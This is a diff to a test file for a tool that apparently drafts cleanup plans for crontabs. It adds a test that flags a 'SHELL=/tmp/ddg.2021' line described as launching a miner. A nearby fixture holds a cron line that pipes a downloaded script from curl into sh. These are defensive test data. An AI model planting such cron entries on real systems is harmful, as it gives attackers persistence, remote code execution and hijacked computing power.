@@ -58,6 +58,17 @@ describe('the plan for crontabs', () => {
     expect(atob(identity?.lineBase64 ?? '')).toBe(line);
   });
 
+  it('cuts an assignment that starts the miner with whatever runs below it, and says so', () => {
+    const { targets } = draftOf(withCron(crontab(SPOOL, ['SHELL=/tmp/ddg.2021', GOOD_LINES[0]])));
+    expect(targets).toMatchObject([
+      {
+        title: `${SPOOL} line 1: SHELL=/tmp/ddg.2021`,
+        impact: 'Cron runs the lines below it without this setting.',
+        selected: true,
+      },
+    ]);
+  });
+
   it('offers a fetch-and-run line that nothing links unticked', () => {
     const { targets } = draftOf(
       withCron(crontab(SPOOL, ['0 4 * * * curl -fsSL https://get.example/install | sh'])),
